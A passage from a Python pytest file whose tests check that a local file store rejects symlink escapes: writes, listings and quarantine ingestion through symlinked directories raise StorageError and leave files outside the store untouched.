        store.put_bytes("raw/p/escape/new.txt", b"x")
    with pytest.raises(StorageError):
        list(store.list("raw/p/escape/"))
    assert [o.key for o in store.list("")] == ["raw/p/d/i/ok.csv"]
    assert sorted(p.name for p in outside.iterdir()) == ["secret.txt"]
    assert secret.read_bytes() == b"not the store's" and not (tmp_path / "downloaded").exists()


def test_quarantine_through_a_symlinked_zone_writes_nothing_outside(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    store = LocalStore(tmp_path / "store")
    (store.root / "quarantine").symlink_to(outside, target_is_directory=True)
    src = tmp_path / "drop.csv"
    src.write_text("id,name,city,amount,day\nK1,Tan,KL,not-a-number,\n")
    with pytest.raises(StorageError):
        ingest_file(store, "p", "d", SPEC, src)
    assert list(outside.iterdir()) == []
